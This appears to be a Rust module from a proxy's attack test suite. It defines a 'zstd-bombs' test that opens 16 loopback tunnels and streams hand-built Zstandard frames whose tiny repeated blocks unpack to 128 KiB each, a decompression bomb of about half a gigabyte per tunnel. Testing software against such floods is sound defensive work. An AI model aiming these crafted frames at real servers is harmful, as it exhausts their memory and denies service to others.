//! Bytes of a peer that become many more where they are unpacked.

use std::io::Write as _;
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use super::functions::ActingServer;
use super::{Attack, Effort, Party, Place, Stage};

/// Tunnels at once.
const TUNNELS: usize = 16;

/// For how long they are filled.
const TIME: Duration = Duration::from_secs(3);

/// Blocks that a tunnel is given at most: each stands for 128 KiB, all together for half a gigabyte.
const BLOCKS: usize = 4096;

/// `zstd` at its best: four bytes for 128 KiB.
pub(super) const ZSTANDARD: Attack = Attack {
    name: "zstd-bombs",
    by: Party::Peer,
    place: Place::Loopback,
    summary: "16 tunnels of blocks of Zstandard that stand for 128 KiB each, as fast as they are taken",
    prepare,
    run,
};

fn prepare() -> Stage {
    let sink = ActingServer::sink();
    let route = format!("{{ terminate: \"{}\" }}", sink.address());
    Stage::start(
        "web: { http: 127.0.0.1:0, insecure_trust: [127.0.0.0/8] }",
        &route,
        "",
    )
    .keeping(sink)
}

/// The magic number, and a header with a window of 128 KiB (RFC 8878, 3.1.1).
const FRAME: [u8; 6] = [0x28, 0xb5, 0x2f, 0xfd, 0, 0x38];

/// A block of one byte that is repeated, which is not the last one (RFC 8878, 3.1.1.2): its size above its type.
const BLOCK: [u8; 4] = [0x02, 0x00, 0x10, 0];

fn run(stage: &Stage) -> Effort {
    let web = stage.node.address("web");
    let until = Instant::now() + TIME;
    let filling: Vec<_> = (0..TUNNELS)
        .map(|_| std::thread::spawn(move || fill(web, until)))
        .collect();
    let mut effort = Effort::default();
    for one in filling {
        if let Some((tunnel, bytes)) = one.join().unwrap() {
            effort.bytes += bytes;
            effort.attempts += 1;
            effort.hold(tunnel);
        }
    }
    effort
}

/// A tunnel, and the bytes that it took.
fn fill(web: SocketAddr, until: Instant) -> Option<(TcpStream, u64)> {
    let mut tunnel = TcpStream::connect(web).ok()?;
    tunnel.set_write_timeout(Some(TIME)).ok()?;
    let request =
        "CONNECT VIDEO:1 HTTP/1.1\r\nHost: VIDEO:1\r\nHermes-Transform: zstd\r\n\r\n".as_bytes();
    tunnel.write_all(request).ok()?;
    tunnel.write_all(&FRAME).ok()?;
    let mut bytes = 0;
    for _ in 0..BLOCKS {
        // A reader that is slow holds this writer back.
        if Instant::now() > until || tunnel.write_all(&BLOCK).is_err() {
            break;
        }
        bytes += BLOCK.len() as u64;
    }
    Some((tunnel, bytes))
}
